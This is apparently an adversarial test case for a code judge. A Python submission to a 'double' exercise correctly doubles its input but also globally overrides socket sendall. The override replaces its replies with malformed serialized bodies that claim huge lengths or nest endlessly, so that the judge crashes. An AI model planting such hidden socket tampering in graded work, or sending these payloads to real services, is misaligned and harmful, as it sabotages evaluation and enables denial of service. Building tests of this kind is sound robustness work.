# /// attack
# kind = "forging"
# exercise = "ch1/double"
# verdicts = ["crashed"]
# reason = "Sends few bytes that claim billions of items, or nest without end; the reader pays only for what is there."
# ///
import socket

from judge.wire import HEADER

BODIES = [
    b"\xdd\xff\xff\xff\xff" * 50_000,
    b"\x92" * 400_000,
    b"\xdf\xff\xff\xff\xff",
    b"\x92\x93\xa1d\xa2id\x05\x90",
    b"\xc9\xff\xff\xff\xff\x01",
    b"\xdb\xff\xff\xff\xffabc",
]
called = []


def send(self, data):
    if called:
        structure = BODIES[len(str(called[0])) % len(BODIES)]
        data = HEADER.pack(len(structure), 0) + structure
    self.send(data)


socket.socket.sendall = send


def double(value):
    called.append(value)
    return value * 2
